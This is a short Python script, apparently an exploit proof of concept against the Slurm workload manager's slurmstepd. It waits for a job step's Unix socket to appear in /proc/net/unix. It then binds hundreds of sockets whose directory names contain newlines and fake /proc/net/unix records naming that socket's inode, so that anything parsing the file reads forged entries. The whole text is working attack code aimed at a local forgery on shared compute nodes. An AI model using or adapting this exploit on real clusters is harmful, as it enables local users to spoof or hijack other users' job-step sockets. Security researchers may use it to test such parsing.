# A local user's forgery: wait for slurmstepd's socket of NODE_JOB.STEP in
# /proc/net/unix, then bind sockets whose names add lines that name its
# inode with the path DIR/x/NAME_JOB.STEP.
import os, socket, sys, time
node, jobstep, base, name = sys.argv[1:5]
end = "/%s_%s" % (node, jobstep)
deadline = time.time() + 60
ino = None
print("watching", flush=True)
while ino is None and time.time() < deadline:
    for line in open("/proc/net/unix"):
        f = line.split()
        if len(f) >= 8 and f[7].endswith(end):
            ino = f[6]
            break
if ino is None:
    sys.exit(1)
socks = []
for i in range(300):
    d = "%s/%d\n0: 2 0 10000 1 1 %s " % (base, i, ino)
    os.makedirs(d + "/x")
    s = socket.socket(socket.AF_UNIX)
    s.bind(d + "/x/%s_%s" % (name, jobstep))
    socks.append(s)
print("forged", ino, flush=True)
time.sleep(30)
